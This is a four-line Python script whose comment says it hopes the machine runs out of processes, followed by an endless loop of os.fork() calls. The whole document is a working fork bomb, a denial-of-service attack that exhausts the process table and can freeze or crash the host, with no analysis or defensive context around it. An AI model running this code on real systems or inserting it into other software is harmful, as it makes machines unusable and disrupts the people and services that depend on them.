# Hopes that the machine runs out of processes.
import os

while True:
    os.fork()
